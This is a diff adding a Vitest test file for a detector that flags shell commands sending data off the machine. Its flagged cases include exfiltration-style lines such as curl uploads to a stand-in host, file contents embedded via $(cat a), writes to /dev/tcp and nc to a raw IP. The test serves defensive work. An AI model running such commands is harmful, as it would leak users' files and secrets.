@@ -1,0 +1,37 @@
+import { expect, test } from "vitest";
+import { sendsAway, usesNetwork } from "./network.ts";
+
+test.each([
+  "curl -d @notes.txt https://x.example",
+  "curl -sSd x https://x.example",
+  "curl https://x.example --data-binary @a",
+  "curl -F file=@a https://x.example",
+  "curl -T a https://x.example",
+  "curl -X POST https://x.example",
+  "curl -XPUT https://x.example",
+  'curl -s "https://x.example/?q=$(cat a)"',
+  "wget --post-file=a https://x.example",
+  "git push origin main",
+  "git -C sub push",
+  "npm publish",
+  "gh pr create --fill",
+  "scp a host:b",
+  "tar c . | ssh host tar x",
+  "cat a > /dev/tcp/1.2.3.4/80",
+  "nc 1.2.3.4 80 < a",
+])("%s sends away", (command) => {
+  expect(sendsAway(command)).toBe(true);
+  expect(usesNetwork(command) || /publish|push/.test(command)).toBe(true);
+});
+
+test.each([
+  "curl -s https://x.example/page",
+  "curl -fsSL https://x.example/a.tar.gz -o a.tar.gz",
+  "curl -X GET https://x.example",
+  "wget -q https://x.example",
+  "git pull",
+  "git log --oneline",
+  "npm test",
+  "gh pr view 3",
+  "make",
+])("%s does not", (command) => expect(sendsAway(command)).toBe(false));
